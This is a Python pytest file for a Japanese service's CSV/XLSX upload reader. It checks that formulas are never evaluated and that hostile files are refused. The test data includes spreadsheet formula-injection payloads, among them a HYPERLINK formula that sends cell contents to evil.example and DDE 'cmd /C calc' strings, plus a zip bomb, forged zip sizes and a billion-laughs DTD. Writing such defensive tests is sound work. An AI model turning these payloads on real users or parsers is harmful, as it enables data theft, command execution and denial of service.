"""Reading an uploaded CSV or XLSX file (services/sheet_files.py): hostile and broken files
are refused with a message in both languages, before any row is looked at; formulas are
never evaluated."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import Workbook

from tekisei.errors import FileLimitError, InvalidInputError
from tekisei.services.sheet_files import LIMITS, SheetLimits, read_sheet

HEADER = "名称,自組織の立場,利用目的\r\n"


def workbook(rows: list[list[object]], *, text_cells: bool = False, sheets: int = 1) -> bytes:
    """An XLSX file of ``rows`` on its first sheet (strings typed as text when asked)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=number, column=column, value=value)
            if text_cells and isinstance(value, str):
                cell.data_type = "s"
    for index in range(1, sheets):
        book.create_sheet(f"s{index}")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rezipped(
    xlsx: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None
) -> bytes:
    """``xlsx`` with members added or replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = (replace or {}).get(info.filename, source.read(info.filename))
            target.writestr(info.filename, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def refused(
    data: bytes, name: str = "upload.csv", limits: SheetLimits = LIMITS
) -> InvalidInputError:
    with pytest.raises(InvalidInputError) as caught:
        read_sheet(data, name, limits)
    assert caught.value.message_ja and caught.value.message
    return caught.value


# ----------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932", "shift_jis"])
def test_csv_in_utf8_with_or_without_bom_and_in_shift_jis_reads_the_same(encoding: str) -> None:
    text = HEADER + "採用書類スクリーニング,user,髙橋さんの①番目の業務\r\n"
    if encoding == "shift_jis":
        text = text.replace("髙", "高").replace("①", "1")
    sheet = read_sheet(text.encode(encoding), "inventory.csv")
    assert sheet.format == "csv"
    assert sheet.header == ("名称", "自組織の立場", "利用目的")
    assert sheet.rows[0].number == 2
    assert sheet.rows[0].cells[0] == "採用書類スクリーニング"
    assert str(sheet.rows[0].cells[2]).endswith("番目の業務")


def test_quoted_cells_keep_commas_and_line_breaks_and_rows_keep_their_numbers() -> None:
    text = HEADER + '"a, b","user","line one\r\nline two"\r\n\r\n,,\r\n"c",provider,\r\n'
    sheet = read_sheet(text.encode(), "x.csv")
    assert [(r.number, r.cells[0]) for r in sheet.rows] == [(2, "a, b"), (5, "c")]
    assert sheet.rows[0].cells[2] == "line one\r\nline two"


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝１＋１",
        "\t=1+1",
    ],
)
def test_a_csv_cell_that_reads_as_a_formula_is_refused_with_its_row_and_column(cell: str) -> None:
    text = HEADER + f'ok,user,fine\r\nname,user,"{cell.replace(chr(34), chr(34) * 2)}"\r\n'
    sheet = read_sheet(text.encode(), "x.csv")
    [problem] = sheet.problems
    assert (problem.row, problem.column) == (3, "利用目的")
    assert "formula" in problem.message and "数式" in problem.message_ja
    assert sheet.rows[1].cells[2] is None  # never kept


def test_text_behind_the_exports_apostrophe_and_plain_numbers_are_data() -> None:
    text = HEADER + '"\'=1+1",user,"\'@owner"\r\n-1,user,-\r\n'
    sheet = read_sheet(text.encode(), "x.csv")
    assert sheet.problems == []
    assert sheet.rows[0].cells == ("=1+1", "user", "@owner")
    assert sheet.rows[1].cells == ("-1", "user", "-")


def test_utf16_nul_bytes_and_unknown_encodings_are_refused() -> None:
    assert "UTF-16" in refused((HEADER + "a,user,b\r\n").encode("utf-16")).message
    assert "NUL" in refused(HEADER.encode() + b"a,user,\x00b\r\n").message
    latin = refused(HEADER.encode() + "a,user,\u00e9\u00e8\u00ff\u00fe".encode("latin-1"))
    assert "neither UTF-8 nor Shift_JIS" in latin.message


def test_an_extremely_long_line_is_refused_before_it_is_parsed() -> None:
    data = HEADER.encode() + b"a," * (LIMITS.max_line_chars // 2 + 10) + b"\r\n"
    error = refused(data)
    assert isinstance(error, FileLimitError) and "line 2" in error.message


def test_an_unclosed_quote_is_refused_as_broken_csv() -> None:
    data = HEADER.encode() + b'a,user,"' + (b"x" * 1000 + b"\r\n") * 200
    assert "not valid CSV" in refused(data).message


def test_a_cell_longer_than_the_limit_and_control_characters_are_cell_problems() -> None:
    long = "x" * (LIMITS.max_cell_chars + 1)
    text = HEADER + f"a,user,{long}\r\nb,user,bell\x07\r\n"
    sheet = read_sheet(text.encode(), "x.csv")
    assert [(p.row, p.column) for p in sheet.problems] == [(2, "利用目的"), (3, "利用目的")]
    assert "12,000" in sheet.problems[0].message
    assert "制御文字" in sheet.problems[1].message_ja


def test_too_many_rows_or_columns_and_too_large_files_are_refused() -> None:
    rows = HEADER + "a,user,b\r\n" * (LIMITS.max_rows + 1)
    assert "more than 5,000 rows" in refused(rows.encode()).message
    wide = ",".join(f"c{i}" for i in range(LIMITS.max_columns + 1)) + "\r\n"
    assert "at most 50" in refused(wide.encode()).message
    big = refused(b"x" * (LIMITS.max_bytes + 1))
    assert isinstance(big, FileLimitError) and "10 MB" in big.message


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"  \r\n\r\n", "empty"),
        (HEADER.encode(), "no rows to import"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls"),
    ],
)
def test_empty_files_and_files_that_are_not_csv_or_xlsx_are_refused(
    data: bytes, words: str
) -> None:
    assert words in refused(data).message


# ----------------------------------------------------------------------------- XLSX


def test_xlsx_cells_keep_their_types_and_text_that_starts_with_equals_is_text() -> None:
    data = workbook(
        [
            ["名称", "自組織の立場", "期限", "発生可能性"],
            ["=SUM(A1)", "user", datetime(2026, 3, 31), 4],
        ],
        text_cells=True,
    )
    sheet = read_sheet(data, "x.xlsx")
    assert sheet.format == "xlsx" and sheet.problems == []
    assert sheet.rows[0].cells == ("=SUM(A1)", "user", datetime(2026, 3, 31), 4)


def test_an_xlsx_formula_or_error_cell_is_refused_never_evaluated() -> None:
    data = workbook(
        [
            ["名称", "利用目的"],
            ["a", '=HYPERLINK("http://evil.example","click")'],
            ["b", "=1+1"],
            ["c", "#N/A"],
        ]
    )
    sheet = read_sheet(data, "x.xlsx")
    assert [(p.row, p.column) for p in sheet.problems] == [
        (2, "利用目的"),
        (3, "利用目的"),
        (4, "利用目的"),
    ]
    assert "formula" in sheet.problems[0].message and "#N/A" in sheet.problems[2].message
    assert all(row.cells[1:] in ((), (None,)) for row in sheet.rows)


def test_an_xlsx_zip_bomb_is_refused_by_its_inflated_size() -> None:
    bomb = rezipped(workbook([["名称"], ["a"]]), {"xl/media/bomb.bin": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    error = refused(bomb, "bomb.xlsx")
    assert isinstance(error, FileLimitError) and "zip bomb" in error.message


def test_an_archive_that_lies_about_its_sizes_is_still_bounded() -> None:
    data = rezipped(workbook([["名称"], ["a"]]), {"xl/media/x.bin": b"\0" * (2 * 1024 * 1024)})
    # Patch the central directory to declare every member a single byte.
    patched = bytearray(data)
    start = 0
    while (at := patched.find(b"PK\x01\x02", start)) >= 0:
        patched[at + 24 : at + 28] = (1).to_bytes(4, "little")
        start = at + 4
    limits = SheetLimits(max_inflated_bytes=1024 * 1024)
    refused(bytes(patched), "liar.xlsx", limits)


def test_an_xlsx_with_thousands_of_sheets_is_refused() -> None:
    base = workbook([["名称"], ["a"]])
    many = {f"xl/worksheets/sheet{i}.xml": b"<worksheet/>" for i in range(2, 2002)}
    assert "at most 500" in refused(rezipped(base, many), "many.xlsx").message
    some = {f"xl/worksheets/sheet{i}.xml": b"<worksheet/>" for i in range(2, 62)}
    assert "sheets" in refused(rezipped(base, some), "some.xlsx").message


def test_an_xlsx_part_with_a_dtd_is_refused_before_any_xml_is_parsed() -> None:
    base = workbook([["名称"], ["a"]])
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    error = refused(rezipped(base, {}, {"xl/worksheets/sheet1.xml": laughs}), "laughs.xlsx")
    assert "DTD" in error.message


def test_a_damaged_workbook_and_a_zip_that_is_not_one_are_refused() -> None:
    data = workbook([["名称"], ["a"]])
    assert "damaged" in refused(data[: len(data) // 2], "cut.xlsx").message
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as target:
        target.writestr("readme.txt", "hello")
    assert "not an Excel workbook" in refused(archive.getvalue(), "x.zip").message


def test_xlsx_limits_on_rows_and_columns_apply_as_for_csv() -> None:
    wide = workbook([[f"c{i}" for i in range(LIMITS.max_columns + 1)]])
    assert "at most 50" in refused(wide, "wide.xlsx").message
    tall = workbook([["名称"], *([["a"]] * 30)])
    assert "more than 20 rows" in refused(tall, "t.xlsx", SheetLimits(max_rows=20)).message


def test_a_cell_at_the_last_column_does_not_widen_every_row() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["名称", "自組織の立場"])
    for number in range(2, 2002):
        sheet.cell(row=number, column=1, value=f"system {number}")
        sheet.cell(row=number, column=16384).number_format = "0.00"  # styled, empty
    buffer = io.BytesIO()
    book.save(buffer)
    read = read_sheet(buffer.getvalue(), "wide.xlsx")
    assert len(read.rows) == 2000 and all(len(row.cells) == 1 for row in read.rows)


def test_an_xlsx_with_more_texts_than_the_limits_hold_is_refused() -> None:
    base = workbook([["名称"], ["a"]])
    texts = b"".join(b"<si><t>%d</t></si>" % i for i in range(300_000))
    strings = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + texts
        + b"</sst>"
    )
    error = refused(rezipped(base, {"xl/sharedStrings.xml": strings}), "texts.xlsx")
    assert isinstance(error, FileLimitError) and "texts" in error.message


@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"]
)
def test_a_workbook_with_a_malformed_part_is_refused_as_damaged(part: str) -> None:
    broken = rezipped(workbook([["名称"], ["a"]]), {}, {part: b"<worksheet><sheetData><row"})
    assert "damaged" in refused(broken, "broken.xlsx").message
